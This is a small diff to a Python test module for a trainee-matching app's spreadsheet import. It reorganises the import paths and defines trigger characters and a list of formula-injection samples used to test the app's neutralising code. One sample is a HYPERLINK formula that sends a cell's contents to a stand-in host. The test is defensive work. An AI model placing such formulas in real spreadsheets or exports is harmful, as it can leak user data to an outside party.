@@ -2,6 +2,7 @@
 
 import csv
 import io
+from functools import partial
 
 import pytest
 import sqlalchemy as sa
@@ -10,8 +11,12 @@ from openpyxl import Workbook
 from matching.extensions import db
 from matching.formulas import neutralise, restore
 from matching.models import Trainee
-from matching.operations.imports import import_trainees_file
-from matching.operations.tables import read_table
+from matching.operations.imports.parsing import import_file
+from matching.operations.imports.reading import read_table
+from matching.operations.imports.trainees import import_trainees
+
+#: From a file, as the import pages and the CLI come in.
+import_trainees_file = partial(import_file, import_rows=import_trainees)
 
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+1", "-1+1", "@SUM(1)"]
